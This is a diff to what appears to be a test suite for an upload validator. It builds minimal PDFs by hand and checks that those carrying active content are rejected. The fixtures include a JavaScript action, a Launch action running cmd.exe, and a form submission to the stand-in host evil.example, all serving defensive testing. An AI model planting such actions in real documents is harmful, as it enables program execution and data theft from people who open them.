@@ -31,6 +31,46 @@ def with_attachment() -> bytes:
     return out.getvalue()
 
 
+SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+LAUNCH = "<< /Type /Action /S /Launch /F (cmd.exe) >>"
+SUBMIT = "<< /S /SubmitForm /F (https://evil.example) >>"
+CHAIN = f"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next [{SCRIPT}] >> >>"
+LINK = "<< /S /URI /URI (https://example.com) >>"
+
+
+def acting(opening: str = "", page: str = "", annotation: str = "", form: str = "") -> bytes:
+    """A PDF with actions where one wants them, written by hand."""
+    at_once, at_page, at_field = (
+        f"{key} {action}" if action else ""
+        for key, action in (
+            ("/OpenAction", opening),
+            ("/AA << /O", page and f"{page} >>"),
+            ("/A", annotation),
+        )
+    )
+    objects = (
+        f"<< /Type /Catalog /Pages 2 0 R {at_once} {'/AcroForm ' + form if form else ''} >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] {at_page} /Annots [4 0 R] >>",
+        f"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /FT /Tx /T (a) {at_field} >>",
+    )
+    file, table = "%PDF-1.7\n", "xref\n0 5\n0000000000 65535 f \n"
+    for number, body in enumerate(objects, 1):
+        table += f"{len(file):010} 00000 n \n"
+        file += f"{number} 0 obj\n{body}\nendobj\n"
+    return f"{file}{table}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{len(file)}\n%%EOF\n".encode()
+
+
+def owned() -> bytes:
+    """A PDF that opens without a password and has one for its owner."""
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    writer.encrypt("", "owner", algorithm="AES-256")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
 def encrypted() -> bytes:
     writer = PdfWriter()
     writer.add_blank_page(200, 200)
@@ -65,6 +105,17 @@ GOOD = {
     "pdf": (pdf(), "Certificate.PDF", "application/pdf", "application/pdf"),
     "png": (image(), "id.png", "image/png", "image/png"),
     "jpeg": (image("JPEG"), "id.jpeg", "image/jpeg", "image/jpeg"),
+    "pdf with an attachment": (with_attachment(), "a.pdf", "application/pdf", "application/pdf"),
+    "pdf with its owner's password": (owned(), "a.pdf", "application/pdf", "application/pdf"),
+    "pdf after a byte order mark": (b"\xef\xbb\xbf" + pdf(), "a.pdf", "application/pdf", "application/pdf"),
+    "pdf after line feeds": (b"\r\n\n" + pdf(), "a.pdf", "application/pdf", "application/pdf"),
+    "pdf with a link": (acting(annotation=LINK), "a.pdf", "application/pdf", "application/pdf"),
+    "pdf that opens at a page": (
+        acting(opening="[3 0 R /Fit]"),
+        "a.pdf",
+        "application/pdf",
+        "application/pdf",
+    ),
     "unspecific": (image("JPEG"), "scan", "application/octet-stream", "image/jpeg"),
 }
 
@@ -104,7 +155,23 @@ BAD: dict[str, tuple[bytes, str, str, str]] = {
     "PDF of too many pages": (pdf(201), "a.pdf", "application/pdf", "too_many_pages"),
     "PDF of 5,000 pages": (pdf(5_000), "a.pdf", "application/pdf", "too_many_pages"),
     "PDF with a script": (scripted(), "a.pdf", "application/pdf", "active_content"),
-    "PDF with an attachment": (with_attachment(), "a.pdf", "application/pdf", "active_content"),
+    "PDF with a script on a page": (acting(page=SCRIPT), "a.pdf", "application/pdf", "active_content"),
+    "PDF with a script in a field": (acting(annotation=SCRIPT), "a.pdf", "application/pdf", "active_content"),
+    "PDF with a script after another action": (
+        acting(opening=CHAIN),
+        "a.pdf",
+        "application/pdf",
+        "active_content",
+    ),
+    "PDF that starts a program": (acting(annotation=LAUNCH), "a.pdf", "application/pdf", "active_content"),
+    "PDF that sends a form": (acting(page=SUBMIT), "a.pdf", "application/pdf", "active_content"),
+    "PDF with an XFA form": (
+        acting(form="<< /Fields [] /XFA (x) >>"),
+        "a.pdf",
+        "application/pdf",
+        "active_content",
+    ),
+    "HTML before the PDF": (b"<html>" + pdf(), "a.pdf", "application/pdf", "type_not_supported"),
     "PDF with a password": (encrypted(), "a.pdf", "application/pdf", "encrypted"),
     "only the magic of a PNG": (b"\x89PNG\r\n\x1a\n" + b"A" * 99, "a.png", "image/png", "unreadable"),
     "PNG cut off": (image()[:-30], "a.png", "image/png", "unreadable"),
